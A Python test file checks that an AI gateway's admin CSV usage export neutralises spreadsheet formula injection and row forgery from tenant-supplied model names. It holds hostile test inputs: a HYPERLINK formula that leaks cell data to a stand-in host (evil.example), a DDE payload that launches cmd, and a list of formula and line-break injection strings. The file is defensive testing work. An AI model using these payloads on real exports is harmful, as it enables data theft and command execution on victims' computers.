"""CSV usage exports are safe to open in a spreadsheet (issue 18, item 7).

A tenant chooses the ``model`` string of its requests, and a request for a model nobody serves
used to be booked with that string, so ``GET /admin/usage?format=csv`` could carry
``=HYPERLINK(...)`` cells and line breaks that forge rows. Now such requests are booked as
``(unknown)``, and every text cell the product writes to CSV is neutralised (a leading ``'``)
and quoted when it holds a line break, for rows already in the database too.
"""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import pytest
from sqlalchemy import insert

from gateway.csv_safe import FORMULA_PREFIXES, neutralise, write_csv
from gateway.db import create_engine
from gateway.db.models import UsageRecord
from gateway.usage import UNKNOWN_MODEL, model_label
from tests.gateway.saas_support import database_url, query, saas  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
FORGED_LINE = "qwen-plus\n=1+1,forged,row"
USER = [{"role": "user", "content": "hello"}]


def parse(text: str) -> list[dict[str, str]]:
    """The rows of a CSV export, read the way a careful consumer reads it (the csv module)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
            assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES), (column, cell)


def test_unknown_models_are_booked_as_one_label(saas: Any, database_url: str) -> None:  # noqa: F811
    gw = saas()
    key = gw.create_key(tenant="acme", scopes=["chat", "tts"])
    c = gw.client(key["key"])
    assert c.post("/v1/chat/completions", json={"model": "qwen-plus", "messages": USER}).status_code == 200
    for model in (FORMULA, FORGED_LINE):
        for stream in (False, True):
            r = c.post("/v1/chat/completions", json={"model": model, "messages": USER, "stream": stream})
            assert r.status_code == 404 and r.json()["error"]["code"] == "model_not_found"
    speech = c.post("/v1/audio/speech", json={"model": "@SUM(1+1)*cmd|' /C calc'!A0", "input": "Hi."})
    assert speech.status_code == 404

    r = gw.admin.get("/admin/usage", params={"group_by": "model", "bucket": "day", "format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = parse(r.text)
    assert_no_formula_cells(rows)
    assert {row["group"]: (row["requests"], row["errors"]) for row in rows} == {
        "qwen-plus": ("1", "0"),
        UNKNOWN_MODEL: ("5", "5"),
    }
    # Booked as refused (404), not as a gateway failure, and never with the client's string.
    booked = query(database_url, "SELECT model, status FROM usage_records WHERE status <> 200")
    assert sorted(booked) == [(UNKNOWN_MODEL, 404)] * 5


def _insert_rows(url: str, rows: list[dict[str, Any]]) -> None:
    async def run() -> None:
        engine = create_engine(url)
        try:
            async with engine.begin() as conn:
                await conn.execute(insert(UsageRecord.__table__), rows)
        finally:
            await engine.dispose()

    asyncio.run(run())


#: Group names a spreadsheet would evaluate or that forge lines (rows written before the fix,
#: or by another version of the gateway sharing the database).
HOSTILE = [  # the first seven start (or, after blanks, start) with a formula character
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    FORGED_LINE,
    "a\r\nb",
    "bare\rcarriage",
]


def test_csv_export_neutralises_rows_already_booked(saas: Any, database_url: str) -> None:  # noqa: F811
    gw = saas()
    now = int(time.time() * 1000)
    base = {"ts_ms": now, "tenant": "acme", "route": "/v1/chat/completions", "key_id": "k1", "status": 200}
    _insert_rows(database_url, [{**base, "request_id": f"r{i}", "model": m} for i, m in enumerate(HOSTILE)])

    r = gw.admin.get("/admin/usage", params={"group_by": "model", "bucket": "day", "format": "csv"})
    assert r.status_code == 200
    rows = parse(r.text)
    assert len(rows) == len(HOSTILE)  # one row per group: no line was forged
    assert_no_formula_cells(rows)
    # Nothing lost: each cell is the stored name, with a quote in front where it was dangerous.
    assert sorted(row["group"] for row in rows) == sorted(neutralise(m) for m in HOSTILE)
    assert {row["requests"] for row in rows} == {"1"}
    # The JSON form is data for programs and stays exact.
    data = gw.admin.get("/admin/usage", params={"group_by": "model", "bucket": "day"}).json()["data"]
    assert sorted(d["group"] for d in data) == sorted(HOSTILE)


# --------------------------------------------------------------------------- units


@pytest.mark.parametrize("value", HOSTILE[:7])
def test_neutralise_prefixes_dangerous_text(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["qwen-plus", "(unknown)", "", "a=b", "1e3", "bailian:qwen-plus", FORGED_LINE, "a\r\nb"]
)
def test_neutralise_leaves_ordinary_text(value: str) -> None:
    assert neutralise(value) == value


def test_write_csv_quotes_line_breaks_and_keeps_numbers() -> None:
    text = write_csv(("group", "n", "x"), [{"group": "a\rb", "n": -1, "x": 2.5}, {"group": "c\nd", "n": 3}])
    assert text.splitlines()[0] == "group,n,x"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["group", "n", "x"], ["a\rb", "-1", "2.5"], ["c\nd", "3", ""]]
    assert '"a\rb"' in text and '"c\nd"' in text


def test_model_label() -> None:
    assert model_label("qwen-plus") == "qwen-plus"
    assert model_label("bailian:qwen3-tts-flash") == "bailian:qwen3-tts-flash"
    assert model_label(None) is None and model_label("") is None
    for bad in (FORMULA, FORGED_LINE, "-x", " x", "x" * 129, "(unknown)"):
        assert model_label(bad) == UNKNOWN_MODEL
